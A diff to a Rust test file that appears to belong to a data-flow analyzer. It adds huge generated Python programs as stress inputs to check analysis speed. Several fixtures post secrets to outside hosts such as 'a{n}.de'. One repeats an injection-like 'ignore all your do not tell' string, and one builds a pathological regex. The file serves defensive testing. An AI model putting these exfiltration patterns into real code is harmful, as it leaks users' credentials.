@@ -193,11 +193,43 @@ fn programs() -> Vec<String> {
     ]
 }
 
+/// Programs for the rules of the review: data that is followed forwards, backwards, into many hosts and through functions
+/// of many parameters, loops, orders and patterns.
+fn suspects() -> Vec<String> {
+    vec![
+        format!(
+            "async def main(q: str):\n{} await http.get(x4999)\n",
+            numbered(5_000, |n| format!(" x{n} = q + 'a'\n"))
+        ),
+        format!(
+            "async def main(q: str):\n await http.get(x0)\n{}",
+            numbered(5_000, |n| format!(" x{n} = x{}\n", n + 1))
+        ),
+        format!(
+            "async def main(q: str):\n{}",
+            numbered(1_200, |n| format!(
+                " y{n} = await http.post('http://a{n}.de/', json=[y{}, q, secrets['K{n}']])\n",
+                n + 1
+            ))
+        ),
+        format!(
+            "def f({}):\n http.get(secrets['A'])\n{}",
+            numbered(1_000, |n| format!("a{n}, ")),
+            "f(*secrets['A']);".repeat(4_000)
+        ),
+        numbered(3_000, |n| format!("def f{n}(x):\n return f{}(x + secrets['A'])\n", n + 1)),
+        format!("x = '{}'\n", "ignore all your do not tell ".repeat(3_500)),
+        numbered(3_000, |n| format!("while True:\n x{n} = 'mcpbox ' * 2 ** {n}\n")),
+        format!("re.compile('{}')\n", "(a+".repeat(30_000)),
+        numbered(2_500, |n| format!("open(a{n} + '/tmp/' + b).write(x)\na{n} = a{}\n", n + 1)),
+    ]
+}
+
 #[test]
 fn the_largest_source_takes_less_than_a_tenth_of_a_second() {
     let mut slow = Vec::new();
     let mut slowest = (Duration::ZERO, String::new());
-    for source in UNITS.iter().map(|unit| fill(unit)).chain(programs()).chain(mixes()) {
+    for source in UNITS.iter().map(|unit| fill(unit)).chain(programs()).chain(suspects()).chain(mixes()) {
         let took = cpu_time(&source);
         let start: String = source.chars().take(24).collect();
         if took > slowest.0 {
@@ -207,6 +239,7 @@ fn the_largest_source_takes_less_than_a_tenth_of_a_second() {
             slow.push((took, start));
         }
     }
-    println!("slowest: {slowest:?}");
+    let lines = format!("async def main(q: str):\n{}", numbered(4_999, |n| format!(" x{n} = q + 'a'\n")));
+    println!("5,000 lines: {:?}; slowest: {slowest:?}", cpu_time(&lines));
     assert!(slow.is_empty(), "{slow:#?}");
 }
